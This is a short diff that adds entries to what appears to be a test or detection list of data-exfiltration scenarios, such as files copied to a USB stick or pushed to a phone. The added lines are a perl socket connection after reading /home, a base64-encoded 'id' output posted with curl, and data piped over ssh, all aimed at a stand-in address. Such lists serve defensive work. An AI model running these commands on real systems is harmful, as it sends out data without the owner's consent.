@@ -68,3 +68,9 @@ tar -czf /media/stick/.a/b.tgz /etc/hosts
 ## Files given to a phone
 #setup stubs /usr/bin/adb
 adb push /etc/hosts /sdcard/x
+## Data looked for, then a connection by an untrusted program
+perl -MIO::Socket::INET -e 'opendir D, "/home"; IO::Socket::INET->new("203.0.113.9:80")'
+## Text encoded or encrypted, then sent away
+id | base64 | curl -s -m 1 --data-binary @- http://203.0.113.9/
+## Folder or file poured through a login
+echo x | ssh -o BatchMode=yes 203.0.113.9 'cat > x.tgz'
